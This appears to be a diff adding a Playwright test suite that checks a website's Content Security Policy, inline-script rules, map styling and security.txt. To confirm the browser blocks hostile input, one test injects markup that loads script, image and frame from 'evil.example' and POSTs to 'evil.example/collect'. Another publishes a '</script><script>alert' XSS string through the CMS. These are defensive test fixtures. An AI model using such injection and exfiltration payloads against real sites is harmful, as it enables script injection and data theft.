@@ -1,0 +1,134 @@
+import type { APIRequestContext } from '@playwright/test'
+import { publishField } from '#tests/setup/editor.ts'
+import { fakeMaps } from '#tests/setup/fake-maps.ts'
+import { expect, test, WITHOUT_MOTION } from '#tests/setup/fixtures.ts'
+import { answerOtherHosts } from '#tests/setup/other-hosts.ts'
+import { untilRebuilt } from '#tests/setup/rebuilt.ts'
+
+test.use(WITHOUT_MOTION)
+test.beforeEach(({ context }) => answerOtherHosts(context))
+
+const PAGES = ['/', '/gallery', '/services', '/contact', '/mainlinepipeline']
+
+const policyOf = async (request: APIRequestContext, path: string) =>
+  (await request.get(path, { headers: { accept: 'text/html' } })).headers()['content-security-policy'] ?? ''
+
+for (const path of PAGES) {
+  test(`${path} has no style attribute and no inline script but its own, with a policy that allows no other`, async ({
+    page,
+  }) => {
+    const policy = await policyOf(page.request, path)
+    expect(policy).toMatch(/^default-src 'none'; script-src 'self' 'sha256-[\w+/]{43}='/)
+    expect(policy).toContain("style-src-attr 'none'")
+    expect(policy).not.toMatch(/unsafe|script-src[^;]*(data:|blob:|nonce-)/)
+    const html = await (await page.request.get(path)).text()
+    const inline = await page.evaluate((source) => {
+      const parsed = new DOMParser().parseFromString(source, 'text/html')
+      const handlers = [...parsed.querySelectorAll('*')].flatMap((element) =>
+        element.getAttributeNames().filter((name) => name === 'style' || name.startsWith('on')),
+      )
+      return { handlers, scripts: parsed.querySelectorAll('script:not([src], [type])').length }
+    }, html)
+    expect(inline).toEqual({ handlers: [], scripts: 1 })
+  })
+}
+
+test.describe('what somebody injects into a page', () => {
+  test.use({ expectedViolations: /./, expectedProblems: /Content Security Policy|evil\.example/ })
+
+  test('does not run, is not styled, and reaches no other host', async ({ page, ready }) => {
+    await page.goto('/contact')
+    await ready()
+    const blocked = page.evaluate(
+      () =>
+        new Promise<string[]>((resolve) => {
+          const directives: string[] = []
+          addEventListener('securitypolicyviolation', ({ disposition, effectiveDirective }) => {
+            if (disposition === 'enforce') directives.push(effectiveDirective)
+            if (directives.length === 8) resolve(directives.sort())
+          })
+        }),
+    )
+    await page.evaluate(() => {
+      document.body.insertAdjacentHTML(
+        'beforeend',
+        `<p id="injected" style="color: rgb(1, 2, 3)" onclick="Object.assign(window, { injected: 'handler' })">Injected</p>
+         <style>#injected { color: rgb(3, 2, 1) }</style>
+         <img src="https://evil.example/pixel" alt="">
+         <iframe src="https://evil.example/frame" title="Injected"></iframe>`,
+      )
+      document.getElementById('injected')?.click()
+      for (const attributes of [{ text: "injected = 'text'" }, { src: 'https://evil.example/script.js' }])
+        document.head.append(Object.assign(document.createElement('script'), attributes))
+      fetch('https://evil.example/collect', { method: 'POST' }).catch(() => {})
+    })
+    expect(await blocked).toEqual([
+      'connect-src',
+      'frame-src',
+      'img-src',
+      'script-src-attr',
+      'script-src-elem',
+      'script-src-elem',
+      'style-src-attr',
+      'style-src-elem',
+    ])
+    expect(await page.evaluate(() => Reflect.get(window, 'injected'))).not.toBe('handler')
+  })
+})
+
+test('a page that follows a publish keeps its policy', async ({ page, management, site }) => {
+  const sent = async () => (await page.request.get('/gallery')).text()
+  const policies = () => Promise.all(PAGES.map((path) => policyOf(page.request, path)))
+  const before = await policies()
+  const title = await publishField(management, 'gallery-page', 'gridTitle', '</script><script>alert("Along the line")')
+  try {
+    await expect.poll(sent, { timeout: 30_000 }).toContain('Along the line')
+    expect(await policies()).toEqual(before)
+    await page.goto('/gallery')
+    await expect(page.getByRole('heading', { name: 'Along the line' })).toBeVisible()
+  } finally {
+    await publishField(management, 'gallery-page', 'gridTitle', title)
+  }
+  await untilRebuilt(site.url)
+})
+
+test('a focal point and a placeholder colour show without the script', async ({ page, management, site, browser }) => {
+  const before = await publishField(management, 'hero-services', 'focalPoint', '25% 100%')
+  try {
+    const sent = async () => (await page.request.get('/services')).text()
+    await expect.poll(sent, { timeout: 30_000 }).toContain('data-focus="2-5 10-0"')
+    const context = await browser.newContext({ javaScriptEnabled: false, baseURL: site.url })
+    const plain = await context.newPage()
+    await plain.goto('/services')
+    const poster = plain.locator('main img').first()
+    await expect(poster).toHaveCSS('object-position', '25% 100%')
+    await expect(plain.locator('main video')).toHaveCSS('object-position', '25% 100%')
+    await expect(poster).toHaveCSS('background-color', /^rgb\((?:\d+, ){2}\d+\)$/)
+    await context.close()
+  } finally {
+    await publishField(management, 'hero-services', 'focalPoint', before ?? null)
+  }
+  await untilRebuilt(site.url)
+})
+
+test.describe('the map', () => {
+  test.use({ googleMap: 'answered' })
+
+  test('adds styles with the nonce of the page’s own', async ({ page }) => {
+    await fakeMaps(page)
+    await page.goto('/contact')
+    await page.getByRole('contentinfo').scrollIntoViewIfNeeded()
+    await expect(page.getByRole('region', { name: 'Map of the office' })).toBeVisible()
+    await expect(page.locator('.gm-style').first()).toHaveCSS('outline-style', 'dashed')
+  })
+})
+
+test('security.txt names the office of the CMS, and the address of the site', async ({ page, site }) => {
+  const response = await page.request.get('/.well-known/security.txt')
+  expect(response.headers()['content-type']).toBe('text/plain; charset=utf-8')
+  const text = await response.text()
+  expect(text).toContain('Contact: mailto:office@blackland.example\n')
+  expect(text).toContain(`Canonical: ${site.url}/.well-known/security.txt\n`)
+  const [, expires = ''] = /^Expires: (.*)$/m.exec(text) ?? []
+  expect(Date.parse(expires)).toBeGreaterThan(Date.now())
+})
